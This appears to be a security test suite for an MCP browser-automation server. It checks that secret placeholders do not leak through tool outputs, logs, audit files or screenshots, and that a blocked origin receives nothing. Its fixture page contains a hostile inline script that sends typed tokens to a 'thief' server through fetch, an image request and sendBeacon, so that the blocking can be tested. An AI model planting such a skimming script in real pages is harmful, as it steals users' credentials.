import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { spellings } from '../../src/safety/redactor';
import { TEST_LAUNCH } from '../helpers/chromium';
import { startLoggedServer, type LoggedServer } from '../helpers/loggedServers';

const MCP_BIN = join(__dirname, '..', '..', '..', 'dist', 'mcp.js');
const launchArgs = ['--headless', ...TEST_LAUNCH.args!.map((a) => `--browser-arg=${a}`)];
/** A secret with characters that change under URL-encoding and HTML-escaping. */
const SECRET = `tok&en <Val>'9 "x"`;

interface Mcp {
  call(name: string, args?: Record<string, unknown>): Promise<{ text: string; isError: boolean; images: string[] }>;
  stderr: string[];
  close(): Promise<void>;
}

async function spawnMcp(args: string[]): Promise<Mcp> {
  const transport = new StdioClientTransport({ command: process.execPath, args: [MCP_BIN, '--no-daemon', ...args], stderr: 'pipe' });
  const stderr: string[] = [];
  transport.stderr?.on('data', (d) => stderr.push(String(d)));
  const client = new Client({ name: 'security-test', version: '1.0.0' });
  await client.connect(transport);
  return {
    stderr,
    async call(name, a = {}) {
      const r: any = await client.callTool({ name, arguments: a }, undefined, { timeout: 60_000 });
      const text = r.content.filter((c: any) => c.type === 'text').map((c: any) => c.text).join('\n');
      return { text, isError: !!r.isError, images: r.content.filter((c: any) => c.type === 'image').map((c: any) => c.data) };
    },
    close: () => client.close(),
  };
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? [join(dir, e.name), ...filesUnder(join(dir, e.name))] : [join(dir, e.name)]));
}

const refOf = (snapshot: string, role: string, name: string) => {
  const m = new RegExp(`\\[([\\w:]+)\\] ${role} "${name}`).exec(snapshot);
  if (!m) throw new Error(`no ${role} "${name}" in\n${snapshot}`);
  return m[1];
};

/**
 * The spellings a value comes back in, produced by the platform's own encoders (WHATWG URL parser, form
 * encoding, DOM serialisation), not by the redactor: a spelling it does not know is caught here.
 */
function platformSpellings(v: string): string[] {
  const url = new URL(`http://h.example/${v.replace(/[?#]/g, '')}?q=${v.replace(/#/g, '')}#${v}`);
  return [
    v,
    url.pathname.slice(1),
    url.search.slice(3),
    url.hash.slice(1),
    new URLSearchParams({ v }).toString().slice(2),
    encodeURIComponent(v),
    JSON.stringify(v).slice(1, -1),
    v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'),
    v.replace(/&/g, '&amp;').replace(/"/g, '&quot;'),
    v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;'),
  ];
}

describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopback server)', function () {
  this.timeout(180_000);
  let site: LoggedServer;
  /** A blocked origin the hostile page tries to send the typed value to. */
  let thief: LoggedServer;
  let mcp: Mcp;
  let work: string;
  let audit: string;
  const outputs: string[] = [];
  const call = async (name: string, args: Record<string, unknown> = {}) => {
    const r = await mcp.call(name, args);
    outputs.push(r.text);
    return r;
  };

  before(async () => {
    thief = await startLoggedServer({});
    const T = thief.origin;
    site = await startLoggedServer({
      '/form': `<!doctype html><title>Keys</title>
        <form action="/landing" method="get"><label>API token <input id=tok name=tok></label><button>Save</button></form>
        <select id=sel aria-label=Plan><option>Basic</option><option>Pro</option></select>
        <p id=echo></p><a id=lnk href="/x">link</a>
        <script>tok.addEventListener('input', () => { echo.textContent = 'You typed ' + tok.value; lnk.href = '/x?v=' + encodeURIComponent(tok.value); lnk.title = tok.value; document.title = 'Keys ' + tok.value; console.error('typed ' + tok.value);
          // A hostile page: sends what is typed to another origin (blocked), raw, encoded and as a body.
          fetch('${T}/steal?v=' + tok.value).catch(() => {}); new Image().src = '${T}/img/' + encodeURIComponent(tok.value); navigator.sendBeacon('${T}/beacon', tok.value); });</script>`,
      '/landing': (req, res) => {
        const v = new URL(req.url!, 'http://x').searchParams.get('tok') ?? '';
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<!doctype html><title>Saved ${v.replace(/[<&>]/g, (c) => `&#${c.charCodeAt(0)};`)}</title><p>Saved ${v.replace(/[<&>"']/g, (c) => `&#${c.charCodeAt(0)};`)}</p>`);
      },
      '/mask': `<!doctype html><title>Mask</title><style>input{font:32px monospace;width:600px;display:block;margin:10px}</style>
        <label>API token <input id=a></label><label>Nickname <input id=b></label><button type=button>Send</button>`,
    });
    work = mkdtempSync(join(tmpdir(), 'ba-sec-'));
    audit = join(work, 'audit');
    writeFileSync(join(work, 'secrets.env'), `TOKEN='${SECRET}'\nOTHER=unbound-secret-value\n`);
    mcp = await spawnMcp(mcpArgs());
  });
  const mcpArgs = () => [...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit, '--blocked-origins', `127.0.0.1:${thief.port}`];
  after(async () => {
    await mcp?.close();
    await site?.close();
    await thief?.close();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('a placeholder in a URL, a new-tab URL, a wait text, an option name or a key name is refused and never sent', async () => {
    await call('browser_navigate', { url: `${site.origin}/form` });
    const snap = (await call('browser_snapshot')).text;
    const sel = refOf(snap, 'combobox', 'Plan');
    site.log.length = 0;
    const refused = [
      await call('browser_navigate', { url: `${site.origin}/landing?tok={{secret:TOKEN}}` }),
      await call('browser_tabs', { action: 'new', url: `${site.origin}/landing?tok={{secret:TOKEN}}` }),
      await call('browser_wait', { text: '{{secret:TOKEN}}', timeoutMs: 500 }),
      await call('browser_select_option', { ref: sel, values: ['{{secret:TOKEN}}'] }),
      await call('browser_press_key', { key: '{{secret:TOKEN}}' }),
    ];
    for (const r of refused) {
      assert.ok(r.isError, r.text);
      assert.match(r.text, /placeholder may only be typed into a field|placeholder .* was refused/, r.text);
    }
    assert.deepEqual(site.log, [], 'nothing was sent');
  });

  it('a bound secret types on its origin without asking; every later output, error, audit file and log line is clean', async () => {
    const snap = (await call('browser_snapshot')).text;
    const typed = await call('browser_type', { ref: refOf(snap, 'textbox', 'API token'), text: '{{secret:TOKEN}}' });
    assert.equal(typed.isError, false, typed.text);
    // Every path that could echo it: snapshot, find, extract, evaluate (refused: needs confirmation), console, tabs, errors.
    await call('browser_snapshot');
    await call('browser_find', { query: 'typed' }).catch(() => undefined);
    await call('browser_extract', {}).catch(() => undefined);
    await call('browser_evaluate', { script: 'document.body.innerHTML' });
    await call('browser_tabs', { action: 'list' });
    await call('browser_wait', { text: 'never appears', timeoutMs: 300 });
    await call('browser_click', { ref: 'e99999' });
    await call('browser_type', { ref: 'e99999', text: '{{secret:TOKEN}}' });
    await call('browser_press_key', { key: 'Enter' }); // submits the form: the value goes into the URL and the next page
    await call('browser_snapshot');
    await call('browser_navigate_back');
    await call('browser_tabs', { action: 'list' });
    const submitted = site.log.find((l) => l.startsWith('GET /landing'));
    assert.ok(submitted, `the form was submitted to the bound origin (${site.log.join(', ')})`);

    const forms = [...new Set([...spellings(SECRET), ...platformSpellings(SECRET)])];
    // The hostile page's attempts were stopped before they were sent, and reported without the value.
    assert.deepEqual(thief.log, [], 'the blocked origin got nothing');
    assert.ok(outputs.some((t) => /an? (fetch|XHR) request to <page-content id=\w+>http:\/\/127\.0\.0\.1:\d+\/steal\?v=\{\{secret:TOKEN\}\}/.test(t)), `the stopped exfiltration is reported, the value shown as its placeholder:\n${outputs.join('\n')}`);
    assert.ok(forms.includes(encodeURIComponent(SECRET)) && forms.includes(SECRET.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;')));
    const leaks = (where: string, text: string) => {
      for (const f of forms) assert.ok(!text.includes(f), `${where} contains the secret as ${JSON.stringify(f)}:\n${text.slice(Math.max(0, text.indexOf(f) - 200), text.indexOf(f) + 200)}`);
    };
    assert.ok(outputs.some((t) => t.includes('You typed {{secret:TOKEN}}')), 'the page did echo the value (shown as its placeholder), so the checks below can fail');
    for (const t of outputs) leaks('a tool output', t);
    await mcp.close();
    leaks('the server log (stderr)', mcp.stderr.join(''));
    const files = filesUnder(audit);
    assert.ok(files.some((f) => f.endsWith('.jsonl')), 'the audit log was written');
    for (const f of files) {
      const st = statSync(f);
      if (st.isDirectory()) assert.equal(st.mode & 0o777, 0o700, `${f} is a 0700 folder`);
      else {
        assert.equal(st.mode & 0o777, 0o600, `${f} is a 0600 file`);
        leaks(f, readFileSync(f).toString('latin1'));
      }
    }
    assert.equal(statSync(audit).mode & 0o777, 0o700);
    mcp = await spawnMcp(mcpArgs());
  });

  it('a bound secret is refused on another origin; an unbound one needs a confirmation this client cannot show', async () => {
    await call('browser_navigate', { url: `http://localhost:${site.port}/form` });
    const snap = (await call('browser_snapshot')).text;
    site.log.length = 0;
    const wrong = await call('browser_type', { ref: refOf(snap, 'textbox', 'API token'), text: '{{secret:TOKEN}}' });
    assert.ok(wrong.isError);
    assert.match(wrong.text, /bound to 127\.0\.0\.1:\d+, not to http:\/\/localhost/);
    const unbound = await call('browser_type', { ref: refOf(snap, 'textbox', 'API token'), text: '{{secret:OTHER}}' });
    assert.ok(unbound.isError);
    assert.match(unbound.text, /needs a confirmation/);
    assert.doesNotMatch(unbound.text, /declined/);
    assert.match(unbound.text, /--allow-confirm-actions/);
    assert.deepEqual(site.log, [], 'nothing typed, nothing sent');
    await mcp.close();
    const log = filesUnder(audit).filter((f) => f.endsWith('.jsonl')).map((f) => readFileSync(f, 'utf8')).join('\n');
    assert.match(log, /"needs-confirmation"/, 'the audit log records needs-confirmation');
    mcp = await spawnMcp(mcpArgs());
  });

  it('browser_screenshot masks a secret field (its pixels do not depend on the value) but not an ordinary one', async () => {
    await call('browser_navigate', { url: `${site.origin}/mask` });
    const snap = (await call('browser_snapshot')).text;
    const shot = async (ref: string, text: string) => {
      await call('browser_type', { ref, text });
      return (await call('browser_screenshot')).images[0];
    };
    const token = refOf(snap, 'textbox', 'API token');
    const nick = refOf(snap, 'textbox', 'Nickname');
    const [t1, t2] = [await shot(token, 'AAAAAAAAAAAA'), await shot(token, 'WWWWWWWWWWWW')];
    assert.ok(t1 && t2);
    assert.equal(t1, t2, 'the token field is masked: two values of one length give the same picture');
    await shot(token, '');
    const [n1, n2] = [await shot(nick, 'AAAAAAAAAAAA'), await shot(nick, 'WWWWWWWWWWWW')];
    assert.notEqual(n1, n2, 'an ordinary field is not masked (so the comparison above can fail)');
    // The audit's own pictures: it takes one after each step rated notify or more, e.g. a click on "Send".
    const send = refOf(snap, 'button', 'Send');
    const sendAfter = async (ref: string, text: string) => {
      const typed = await call('browser_type', { ref, text });
      const clicked = await call('browser_click', { ref: send });
      assert.ok(!typed.isError && !clicked.isError, `${typed.text}\n${clicked.text}`);
    };
    await shot(nick, '');
    for (const [ref, text] of [[token, 'AAAAAAAAAAAA'], [token, 'WWWWWWWWWWWW'], [token, ''], [nick, 'AAAAAAAAAAAA'], [nick, 'WWWWWWWWWWWW']]) await sendAfter(ref, text);
    await mcp.close();
    const clicks = filesUnder(audit)
      .filter((f) => f.endsWith('.jsonl'))
      .flatMap((f) => readFileSync(f, 'utf8').trim().split('\n').map((l) => ({ dir: join(f, '..'), ...JSON.parse(l) })))
      .filter((e) => e.tool === 'browser_click' && e.target?.name === 'Send' && e.screenshots?.after);
    assert.ok(clicks.length >= 5, `the audit has after-pictures of the five clicks (${clicks.length} found)`);
    const [a1, a2, , b1, b2] = clicks.slice(-5).map((e) => readFileSync(join(e.dir, e.screenshots.after)).toString('base64'));
    assert.equal(a1, a2, 'the audit picture with the token field filled does not depend on the value');
    assert.notEqual(b1, b2, 'with an ordinary field filled it does (so the comparison above can fail)');
    mcp = await spawnMcp(mcpArgs());
  });
});
